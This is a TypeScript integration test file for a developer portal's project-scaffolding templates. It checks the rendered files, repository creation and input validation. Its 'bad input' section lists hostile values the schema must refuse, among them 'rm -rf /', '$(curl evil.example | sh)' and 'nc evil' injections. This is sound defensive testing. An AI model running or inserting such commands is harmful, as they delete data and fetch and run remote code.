import { execFile, execFileSync } from 'node:child_process';
import { promisify } from 'node:util';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse, parseAllDocuments } from 'yaml';
import {
  api as callApi,
  BackendProcess,
  createOpenApiResponseChecker,
  freePort,
  guestToken,
  poll,
  postgresConnection,
  startBackend,
  stopBackend,
  waitForReady,
} from '@internal/backend-test-utils';
import { spec } from './schema/openapi/generated';

// Integration: the real backend on the real PostgreSQL that `scripts/portal test` provides through
// POSTGRES_*, with the real template files. Dry runs render every golden path; real runs create
// repositories in a temp folder, and bad input is refused without leaving one behind.
jest.setTimeout(300_000);

const repoRoot = path.resolve(__dirname, '../../..');
const prefix = `golden_${Date.now().toString(36)}_`;
const reposRoot = fs.mkdtempSync(path.join(os.tmpdir(), 'golden-repos-'));

let backend: BackendProcess | undefined;
let token = '';

async function api(method: string, url: string, body?: unknown) {
  const res = await callApi(backend!.baseUrl, token, url, {
    method,
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  return { status: res.status, body: await res.json().catch(() => undefined) };
}

function templateFiles(template: string) {
  const dir = path.join(repoRoot, 'templates', template);
  const files: { path: string; base64Content: string }[] = [];
  const walk = (sub: string) => {
    for (const entry of fs.readdirSync(path.join(dir, sub), {
      withFileTypes: true,
    })) {
      const rel = sub ? `${sub}/${entry.name}` : entry.name;
      if (entry.isDirectory()) walk(rel);
      else
        files.push({
          path: rel,
          base64Content: fs
            .readFileSync(path.join(dir, rel))
            .toString('base64'),
        });
    }
  };
  walk('');
  return {
    template: parse(fs.readFileSync(path.join(dir, 'template.yaml'), 'utf8')),
    directoryContents: files,
  };
}

/** Dry-runs a template through the scaffolder API; returns the rendered files by path. */
async function dryRun(template: string, values: Record<string, unknown>) {
  const res = await api('POST', '/api/scaffolder/v2/dry-run', {
    ...templateFiles(template),
    values,
  });
  if (res.status !== 200) {
    throw new Error(`dry-run ${res.status}: ${JSON.stringify(res.body)}`);
  }
  const failed = res.body.log.filter((l: any) => l.body.status === 'failed');
  expect(failed).toEqual([]);
  return Object.fromEntries(
    (
      res.body.directoryContents as { path: string; base64Content: string }[]
    ).map(f => [
      f.path,
      Buffer.from(f.base64Content, 'base64').toString('utf8'),
    ]),
  ) as Record<string, string>;
}

async function runTask(template: string, values: Record<string, unknown>) {
  const created = await api('POST', '/api/scaffolder/v2/tasks', {
    templateRef: `template:default/${template}`,
    values,
  });
  if (created.status !== 201) return { created, task: undefined, events: [] };
  let task: any;
  await poll(
    'the task to finish',
    async () => {
      task = (await api('GET', `/api/scaffolder/v2/tasks/${created.body.id}`))
        .body;
      return ['completed', 'failed', 'cancelled'].includes(task.status);
    },
    180_000,
  );
  const events = (
    await api('GET', `/api/scaffolder/v2/tasks/${created.body.id}/events`)
  ).body as any[];
  return { created, task, events };
}

/**
 * Builds the rendered files with the repository's TypeScript (and its @types/node: the skeletons
 * are dependency-free otherwise) and runs their tests with `node --test`; returns the test report.
 */
// The rendered projects are built, tested and linted in child processes waited for without
// blocking: a test that blocked this process for the seconds a build takes left the backend's
// idle keep-alive socket closed but unnoticed, and the next request on it failed ("other side
// closed").
const run = promisify(execFile);

async function buildAndTest(files: Record<string, string>) {
  const out = fs.mkdtempSync(path.join(os.tmpdir(), 'golden-skeleton-'));
  try {
    for (const [file, content] of Object.entries(files)) {
      fs.mkdirSync(path.dirname(path.join(out, file)), { recursive: true });
      fs.writeFileSync(path.join(out, file), content);
    }
    await run(
      process.execPath,
      [
        path.join(repoRoot, 'node_modules', 'typescript', 'bin', 'tsc'),
        '-p',
        '.',
        '--typeRoots',
        path.join(repoRoot, 'node_modules', '@types'),
      ],
      { cwd: out },
    );
    expect(fs.readdirSync(path.join(out, 'dist')).length).toBeGreaterThan(0);
    const { stdout } = await run(
      process.execPath,
      ['--test', 'src/**/*.test.ts'],
      { cwd: out, encoding: 'utf8' },
    );
    return stdout;
  } finally {
    fs.rmSync(out, { recursive: true, force: true });
  }
}

const service = {
  description: 'Tracks parcels between depots',
  owner: 'group:default/logistics',
  system: 'system:default/shipping',
  lifecycle: 'experimental',
};

beforeAll(async () => {
  postgresConnection(); // fails naming POSTGRES_* when no PostgreSQL is given
  backend = startBackend({
    port: await freePort(),
    env: {
      APP_CONFIG_backend_database_prefix: prefix,
      APP_CONFIG_scaffolder_localGit_root: reposRoot,
      // The example organisation only: templates come with each request (dry run) or by ref.
      APP_CONFIG_catalog_locations: JSON.stringify([
        { type: 'file', target: path.join(repoRoot, 'examples', 'all.yaml') },
        ...['new-service', 'docs-site', 'library'].map(t => ({
          type: 'file',
          target: path.join(repoRoot, 'templates', t, 'template.yaml'),
          rules: [{ allow: ['Template'] }],
        })),
      ]),
    },
  });
  await waitForReady(backend, 180_000);
  // The guest sign-in answers once the auth plugin has its keys; retry until it does.
  token = await poll(
    'a guest token',
    () => guestToken(backend!.baseUrl),
    180_000,
  );
  for (const ref of [
    'group/default/logistics',
    'system/default/shipping',
    'component/default/payments-service',
    'template/default/new-service',
    'template/default/docs-site',
    'template/default/library',
  ]) {
    await poll(
      ref,
      async () =>
        (await api('GET', `/api/catalog/entities/by-name/${ref}`)).status ===
        200,
      180_000,
    );
  }
});

afterAll(async () => {
  if (backend) await stopBackend(backend);
  fs.rmSync(reposRoot, { recursive: true, force: true });
});

/**
 * What the generated CI's catalog-info step says about a rendered catalog-info.yaml: the checker of
 * packages/catalog-info-lint, references and owners against the example catalog.
 */
async function lintRendered(files: Record<string, string>) {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'golden-lint-'));
  fs.writeFileSync(
    path.join(dir, 'catalog-info.yaml'),
    files['catalog-info.yaml'],
  );
  const bin = path.join(
    path.dirname(require.resolve('@internal/catalog-info-lint/package.json')),
    'bin',
    'catalog-info-lint',
  );
  // The checker exits non-zero when it finds errors; its report is on stdout either way.
  const result = await run(
    process.execPath,
    [
      bin,
      '--org',
      path.join(repoRoot, 'examples'),
      '--format',
      'json',
      path.join(dir, 'catalog-info.yaml'),
    ],
    { encoding: 'utf8' },
  ).then(
    ({ stdout }) => ({ stdout, status: 0 }),
    (e: { stdout: string; code: number }) => ({
      stdout: e.stdout,
      status: e.code,
    }),
  );
  fs.rmSync(dir, { recursive: true, force: true });
  const report = JSON.parse(result.stdout);
  return {
    code: result.status,
    problems: report.findings.filter(
      (f: { severity: string }) => f.severity !== 'notice',
    ),
  };
}

describe('new-service', () => {
  it('renders a TypeScript service with a database, which builds and passes its test', async () => {
    const files = await dryRun('new-service', {
      ...service,
      name: 'parcel-tracker',
      language: 'typescript',
      database: true,
    });
    const [component, apiEntity, resource] = parseAllDocuments(
      files['catalog-info.yaml'],
    ).map(d => d.toJS());
    expect(component).toMatchObject({
      kind: 'Component',
      metadata: {
        name: 'parcel-tracker',
        annotations: {
          'backstage.io/techdocs-ref': 'dir:.',
          'backstage.io/source-location': `file:${reposRoot}/checkouts/parcel-tracker/catalog-info.yaml`,
        },
        tags: ['typescript', 'golden-path', 'postgresql'],
      },
      spec: {
        type: 'service',
        lifecycle: 'experimental',
        owner: 'group:default/logistics',
        system: 'system:default/shipping',
        providesApis: ['parcel-tracker-api'],
        dependsOn: ['resource:parcel-tracker-db'],
      },
    });
    // The service's HTTP API, described where the catalog can show it.
    expect(apiEntity).toMatchObject({
      kind: 'API',
      metadata: { name: 'parcel-tracker-api' },
      spec: {
        type: 'openapi',
        lifecycle: 'experimental',
        owner: 'group:default/logistics',
        system: 'system:default/shipping',
      },
    });
    expect(Object.keys(parse(apiEntity.spec.definition).paths)).toEqual([
      '/',
      '/health',
      '/metrics',
    ]);
    expect(component.metadata.links.map((l: any) => l.title)).toEqual([
      'Health',
      'Metrics',
      'Dashboard',
      'Runbook',
    ]);
    // The runbook is a page of the service's own docs, in the portal.
    expect(component.metadata.links[3].url).toMatch(
      /\/docs\/default\/component\/parcel-tracker\/runbook\/$/,
    );
    expect(resource).toMatchObject({
      kind: 'Resource',
      metadata: { name: 'parcel-tracker-db' },
      spec: { type: 'database', owner: 'group:default/logistics' },
    });
    expect(files['compose.yaml']).toContain('image: postgres');
    expect(files['src/db/config.ts']).toContain('DATABASE_URL');
    expect(files['src/app.ts']).toContain("path === '/health'");
    expect(files['src/app.ts']).toContain("path === '/metrics'");
    const ci = files['.github/workflows/ci.yaml'];
    for (const step of [
      'npm test',
      'npm audit',
      'codeql-action/analyze',
      'mkdocs build',
      'npx --yes @internal/catalog-info-lint --format github catalog-info.yaml',
    ]) {
      expect(ci).toContain(step);
    }
    expect(parse(files['mkdocs.yml']).theme).toEqual({
      name: 'material',
      font: false,
    });
    expect(files['docs/index.md']).toMatch(/^# parcel-tracker\n/);

    expect(await lintRendered(files)).toEqual({ code: 0, problems: [] });
    expect(await buildAndTest(files)).toMatch(/pass 2\b/);
    expect(files['package.json']).toContain("node --test 'src/**/*.test.ts'");
  });

  it('renders a Python service without a database', async () => {
    const files = await dryRun('new-service', {
      ...service,
      name: 'route-planner',
      language: 'python',
      database: false,
    });
    const docs = parseAllDocuments(files['catalog-info.yaml']).map(d =>
      d.toJS(),
    );
    expect(docs.map(d => d.kind)).toEqual(['Component', 'API']);
    expect(docs[0].spec).toEqual({
      type: 'service',
      lifecycle: 'experimental',
      owner: 'group:default/logistics',
      system: 'system:default/shipping',
      providesApis: ['route-planner-api'],
    });
    expect(Object.keys(files)).not.toContain('compose.yaml');
    expect(files['app.py']).toContain('"/health"');
    expect(files['test_app.py']).toContain('def test_health');
    expect(files['.github/workflows/ci.yaml']).toContain('pip-audit');
  });

  it('renders a Go service', async () => {
    const files = await dryRun('new-service', {
      ...service,
      name: 'depot-api',
      language: 'go',
      database: true,
    });
    expect(files['go.mod']).toContain('module depot-api');
    expect(files['main.go']).toContain('mux.HandleFunc("/metrics"');
    expect(files['main.go']).toContain('DATABASE_URL');
    expect(files['main_test.go']).toContain('func TestHealth');
    expect(files['.github/workflows/ci.yaml']).toContain('govulncheck');
  });

  it('creates the repository and registers the component with its database', async () => {
    const { task, events } = await runTask('new-service', {
      ...service,
      name: 'parcel-tracker',
      language: 'typescript',
      database: true,
    });
    expect(
      task.status === 'completed'
        ? 'completed'
        : JSON.stringify(events.slice(-5)),
    ).toBe('completed');
    const completion = events.find(e => e.type === 'completion');
    expect(completion.body.output.links[0].entityRef).toBe(
      'component:default/parcel-tracker',
    );
    const entity = await api(
      'GET',
      '/api/catalog/entities/by-name/component/default/parcel-tracker',
    );
    expect(entity.body.spec.owner).toBe('group:default/logistics');
    expect(
      (
        await api(
          'GET',
          '/api/catalog/entities/by-name/resource/default/parcel-tracker-db',
        )
      ).status,
    ).toBe(200);
    expect(
      fs.existsSync(
        path.join(reposRoot, 'checkouts', 'parcel-tracker', 'src', 'app.ts'),
      ),
    ).toBe(true);
    expect(
      execFileSync('git', ['log', '--format=%an', 'main'], {
        cwd: path.join(reposRoot, 'parcel-tracker.git'),
        encoding: 'utf8',
      }),
    ).toBe('Lighthouse\n');
  });
});

describe('docs-site', () => {
  it('renders a documentation component', async () => {
    const files = await dryRun('docs-site', {
      name: 'on-call-handbook',
      title: 'On-call handbook',
      description: 'How the platform team runs on-call',
      owner: 'group:default/platform',
      system: 'system:default/developer-portal',
    });
    const entity = parse(files['catalog-info.yaml']);
    expect(entity.spec).toEqual({
      type: 'documentation',
      lifecycle: 'production',
      owner: 'group:default/platform',
      system: 'system:default/developer-portal',
    });
    expect(entity.metadata.annotations['backstage.io/techdocs-ref']).toBe(
      'dir:.',
    );
    expect(files['docs/index.md']).toMatch(/^# On-call handbook\n/);
    expect(parse(files['mkdocs.yml']).nav).toHaveLength(2);
  });
  it('creates the site, and TechDocs builds it on first request', async () => {
    const { task, events } = await runTask('docs-site', {
      name: 'on-call-handbook',
      title: 'On-call handbook',
      description: 'How the platform team runs on-call',
      owner: 'group:default/platform',
      system: 'system:default/developer-portal',
    });
    expect(
      task.status === 'completed'
        ? 'completed'
        : JSON.stringify(events.slice(-5)),
    ).toBe('completed');
    const sync = await fetch(
      `${
        backend!.baseUrl
      }/api/techdocs/sync/default/component/on-call-handbook`,
      { headers: { authorization: `Bearer ${token}` } },
    );
    // Built by this request, or already by the portal itself (metadata quality asks for the docs of
    // a new entity as soon as the change queue hands it over): either way the sync finishes.
    expect(await sync.text()).toMatch(
      /event: finish\s+data: \{"updated":(true|false)\}/,
    );
    const page = await fetch(
      `${
        backend!.baseUrl
      }/api/techdocs/static/docs/default/component/on-call-handbook/index.html`,
      { headers: { authorization: `Bearer ${token}` } },
    );
    expect(page.status).toBe(200);
    expect(await page.text()).toMatch(/<h1[^>]*>On-call handbook/);
  });
});

describe('library', () => {
  it('renders a TypeScript library', async () => {
    const files = await dryRun('library', {
      name: 'money-format',
      description: 'Formats amounts of money',
      owner: 'group:default/payments',
      system: 'system:default/payments',
      lifecycle: 'production',
    });
    expect(parse(files['catalog-info.yaml']).spec).toEqual({
      type: 'library',
      lifecycle: 'production',
      owner: 'group:default/payments',
      system: 'system:default/payments',
    });
    expect(JSON.parse(files['package.json']).name).toBe('@acme/money-format');
    expect(await buildAndTest(files)).toMatch(/pass 1\b/);
  });
});

describe('bad input', () => {
  const repos = () =>
    fs.existsSync(reposRoot)
      ? fs.readdirSync(reposRoot).filter(f => f !== 'checkouts')
      : [];

  it('refuses a name that is not kebab-case before any step runs', async () => {
    const before = repos();
    const { created } = await runTask('new-service', {
      ...service,
      name: 'Bad_Name',
      language: 'go',
    });
    expect(created.status).toBe(400);
    expect(JSON.stringify(created.body.errors)).toMatch(/name/);
    expect(repos()).toEqual(before);
  });

  // Path traversal and shell metacharacters in any field are refused by the template's own
  // schema when the task is submitted (400, the field named), before a step runs.
  it.each(
    ['new-service', 'docs-site', 'library'].flatMap(template =>
      [
        ['name', '../../etc/cron.d'],
        ['name', 'svc;rm -rf /'],
        ['name', 'svc$(id)'],
        ['name', 'svc`id`'],
        ['name', 'svc|nc evil 1'],
        ['owner', 'group:default/../../platform'],
        ['owner', 'group:default/payments; rm -rf /'],
        ['system', 'system:default/$(reboot)'],
        ['description', 'Takes payments $(curl evil.example | sh)'],
        ['description', 'Breaks out """\nimport os; os.system("id")'],
        ['description', 'Injects `id` into the README'],
      ].map(([field, value]) => [template, field, value]),
    ),
  )(
    '%s refuses %s %j with a 400 naming the field',
    async (template, field, value) => {
      const before = repos();
      const { created } = await runTask(template, {
        ...service,
        name: 'safe-name',
        title: 'Safe title',
        language: 'typescript',
        [field]: value,
      });
      expect(created.status).toBe(400);
      expect(created.body.errors.map((e: any) => e.path.join('.'))).toContain(
        field,
      );
      expect(repos()).toEqual(before);
    },
  );

  it.each([
    [
      'a name taken in the catalog',
      { name: 'payments-service' },
      /^name: 'component:default\/payments-service' already exists/,
    ],
    [
      'an owner that is a user',
      { name: 'fresh-one', owner: 'user:default/guest' },
      /^owner: 'user:default\/guest' is not an existing group/,
    ],
    [
      'an owner that does not exist',
      { name: 'fresh-two', owner: 'group:default/nobody' },
      /^owner: 'group:default\/nobody' is not an existing group/,
    ],
    [
      'a system that does not exist',
      { name: 'fresh-three', system: 'system:default/nowhere' },
      /^system: 'system:default\/nowhere' is not an existing system/,
    ],
  ])(
    'refuses %s, naming the field, and creates nothing',
    async (_what, values, message) => {
      const before = repos();
      const { task, events } = await runTask('new-service', {
        ...service,
        language: 'typescript',
        ...values,
      });
      expect(task.status).toBe('failed');
      const failed = events.find(e => e.body.status === 'failed');
      expect(failed.body.stepId).toBe('validate');
      expect(failed.body.message).toMatch(
        new RegExp(message.source.replace(/^\^/, '(InputError: )?')),
      );
      // One line: no stack trace, no server paths in the task log people read.
      expect(failed.body.message).not.toMatch(/\n|node_modules|\bat /);
      expect(
        events.filter(e => e.body.stepId === 'publish').map(e => e.body.status),
      ).toEqual(['skipped']);
      expect(repos()).toEqual(before);
      expect(
        fs.existsSync(path.join(reposRoot, 'checkouts', values.name)),
      ).toBe(false);
    },
  );

  it('refuses a repository that already exists', async () => {
    const { task, events } = await runTask('new-service', {
      ...service,
      name: 'parcel-tracker',
      language: 'typescript',
    });
    expect(task.status).toBe('failed');
    // The component registered by the earlier run takes the name first.
    expect(events.find(e => e.body.status === 'failed').body.message).toMatch(
      /name: 'component:default\/parcel-tracker' already exists/,
    );
  });
});

describe('GET /api/scaffolder/golden-path/names/:name', () => {
  // Every answer is checked against the module's OpenAPI document.
  const contract = createOpenApiResponseChecker(spec);
  const names = async (name: string, query = '') => {
    const res = await api(
      'GET',
      `/api/scaffolder/golden-path/names/${name}${query}`,
    );
    contract.check('get', `/golden-path/names/${name}`, res);
    return res;
  };

  it('answers that a name taken in the catalog is not available, and why', async () => {
    const res = await names('payments-service');
    expect(res).toEqual({
      status: 200,
      body: {
        available: false,
        problem:
          "'component:default/payments-service' already exists in the catalog",
      },
    });
  });

  it('answers that a free name is available', async () => {
    expect(await names('nobody-has-this-one')).toEqual({
      status: 200,
      body: { available: true },
    });
  });

  it('refuses a name that is not kebab-case, in words', async () => {
    const res = await names('Not_Kebab');
    expect(res.body.available).toBe(false);
    expect(res.body.problem).toMatch(
      /lowercase letters, digits and single dashes/,
    );
  });

  it('answers 400 for a kind that is not a kind', async () => {
    const withSlash = await names('fresh-name', '?kind=../x');
    expect(withSlash.status).toBe(400);
    expect(withSlash.body.error.message).toMatch(/'kind'/);
    const digits = await names('fresh-name', '?kind=Comp0nent');
    expect(digits.status).toBe(400);
    expect(digits.body.error.message).toMatch(
      /^Invalid query parameter 'kind': must match pattern/,
    );
  });

  it('answers 401 without credentials', async () => {
    const res = await fetch(
      `${backend!.baseUrl}/api/scaffolder/golden-path/names/payments-service`,
    );
    expect(res.status).toBe(401);
    contract.check('get', '/golden-path/names/payments-service', {
      status: res.status,
      body: await res.json(),
    });
  });

  it("leaves the scaffolder's own OpenAPI document alone", async () => {
    const res = await api('GET', '/api/scaffolder/openapi.json');
    expect(res.status).toBe(200);
    expect(Object.keys(res.body.paths)).not.toContain(
      '/api/scaffolder/golden-path/names/{name}',
    );
    expect(Object.keys(res.body.paths).length).toBeGreaterThan(1);
  });
});
